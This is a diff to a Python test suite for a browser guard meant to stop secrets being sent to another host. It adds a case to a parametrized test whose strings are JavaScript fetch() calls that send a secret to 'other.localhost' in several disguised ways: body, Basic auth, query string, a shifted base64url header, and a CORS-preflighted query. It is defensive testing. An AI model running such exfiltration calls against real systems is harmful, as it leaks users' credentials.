@@ -311,13 +311,17 @@ def test_secret_never_typed_on_another_host(tmp_path: Path, ev: Path, server: Te
     assert deny["decision"] == "deny" and any(c["guard"] == "secrets.input" for c in deny["checks"])
 
 
-@pytest.mark.parametrize("how", ["body", "basic-auth", "query", "base64url-header"])
+@pytest.mark.parametrize("how", ["body", "basic-auth", "query", "base64url-header", "query-preflighted"])
 def test_secret_never_sent_to_another_host(tmp_path: Path, ev: Path, server: TestServer, how: str) -> None:
     other = server.url("other.localhost", "/api")
     send = {
         "body": f"fetch({json.dumps(other)}, {{method: 'POST', body: JSON.stringify({{pw: v}})}})",
         "basic-auth": f"fetch({json.dumps(other)}, {{headers: {{Authorization: 'Basic ' + btoa('bot:' + v)}}}})",
         "query": f"fetch({json.dumps(other)} + '?pw=' + encodeURIComponent(v))",
+        # a harmless custom header makes Chromium send a CORS preflight first, to the same URL: its
+        # query carries the secret before the request itself does
+        "query-preflighted": f"fetch({json.dumps(other)} + '?pw=' + encodeURIComponent(v), "
+                             "{headers: {'X-Session': '1'}})",
         # a custom header, base64url without padding, after a prefix that shifts the alignment
         "base64url-header": f"fetch({json.dumps(other)}, {{headers: {{'X-Session': "
                             "btoa('ab' + v).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '')}})",
